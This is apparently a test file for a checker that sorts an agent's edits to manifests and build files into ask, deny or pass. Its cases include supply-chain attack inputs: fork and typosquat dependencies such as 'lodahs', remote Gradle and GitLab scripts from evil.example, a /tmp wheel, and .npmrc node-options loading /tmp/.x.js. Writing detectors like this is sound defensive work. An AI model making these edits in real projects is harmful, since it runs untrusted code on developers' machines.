// Manifests and build files that bring in code from elsewhere: a popular name taken from
// someone else's repository (requirements, pyproject, Gemfile), an npm alias to a look-alike,
// remote build scripts (Gradle apply from, GitLab include remote), packages from scratch
// folders, go.work replaces; and .npmrc node-options that load nothing.
import { test } from 'node:test';
import { check, type Case } from './effects-helpers.js';

const P = '/home/dev/project';
const e = (want: Case[0], path: string, old_string: string, new_string: string): Case => [
  want,
  'edit',
  { path: `${P}/${path}`, old_string, new_string },
];
const w = (want: Case[0], path: string, content: string): Case => [
  want,
  'write',
  { path: path.startsWith('/') ? path : `${P}/${path}`, content },
];

test("a popular name taken from someone else's repository is asked; vendors' own and local paths pass", () => {
  check([
    e('A', 'requirements.txt', 'flask==3.0.0', 'flask==3.0.0\nrequests @ git+https://github.com/someone/requests'),
    e('A', 'requirements.txt', 'flask==3.0.0', '-e git+https://gitlab.com/someone/flask.git#egg=flask'),
    e(
      'A',
      'pyproject.toml',
      '[tool.uv]',
      '[tool.uv.sources]\nrequests = { git = "https://github.com/someone/requests" }',
    ),
    e('A', 'Gemfile', "gem 'rails', '~> 7.1'", "gem 'rails', git: 'https://github.com/someone/rails'"),
    e('A', 'Gemfile', "gem 'rails', '~> 7.1'", "gem 'rails', github: 'someone/rails'"),
    e('A', 'package.json', '"lodash": "^4.17.21"', '"lodash": "npm:lodahs@^4.17.21"'),
    e('B', 'requirements.txt', 'flask==3.0.0', 'flask==3.0.1\n-e ./libs/shared'),
    e('B', 'pyproject.toml', '[tool.uv]', '[tool.uv.sources]\nshared = { path = "../shared", editable = true }'),
    e('B', 'Gemfile', "gem 'rails', '~> 7.1'", "gem 'rails', '~> 7.2'"),
    e('B', 'package.json', '"react": "^18.2.0"', '"react": "npm:@preact/compat@^17.1.2"'),
  ]);
});

test('remote build scripts are fetch-and-run; vendor hosts and templates pass', () => {
  check([
    e('D', 'build.gradle', 'plugins {', "apply from: 'https://evil.example/x.gradle'\nplugins {"),
    e('D', '.gitlab-ci.yml', 'stages:', 'include:\n  - remote: https://evil.example/ci.yml\nstages:'),
    e('B', '.gitlab-ci.yml', 'stages:', 'include:\n  - template: Security/SAST.gitlab-ci.yml\nstages:'),
    e('B', 'build.gradle', 'plugins {', "apply from: 'gradle/publish.gradle'\nplugins {"),
  ]);
});

test('package files and find-links in scratch folders are asked; go.work replaces are read as go.mod ones', () => {
  check([
    e('A', 'requirements.txt', 'flask==3.0.0', 'flask==3.0.0\nacme-auth @ file:///tmp/acme_auth-1.0-py3-none-any.whl'),
    w('A', '/home/dev/.config/pip/pip.conf', '[install]\nfind-links = /tmp/wheels\nno-index = true\n'),
    e('A', 'go.work', 'use ./api', 'use ./api\nreplace github.com/gin-gonic/gin => github.com/someone/gin v1.9.1'),
    w('B', '/home/dev/.config/pip/pip.conf', '[global]\ntimeout = 60\n'),
    e('B', 'go.work', 'use ./api', 'use ./api\nuse ./worker'),
  ]);
});

test('.npmrc node-options load code only with --require or --import', () => {
  check([
    w('D', '.npmrc', 'node-options=--require /tmp/.x.js\n'),
    w('B', '.npmrc', 'node-options=--max-old-space-size=4096\n'),
  ]);
});

test("a project's own repository is not a fork; recommended extensions are checked as installs", () => {
  check([
    w('B', 'Gemfile', 'source "https://rubygems.org"\ngem "rails", github: "rails/rails"\n'),
    w('A', '.vscode/extensions.json', '{"recommendations":["unknown-pub.super-ai-helper"]}\n'),
    w('A', '.vscode/extensions.json', '{"recommendations":["ms-python.pyhton"]}\n'),
    w('B', '.vscode/extensions.json', '{"recommendations":["dbaeumer.vscode-eslint","esbenp.prettier-vscode"]}\n'),
  ]);
});
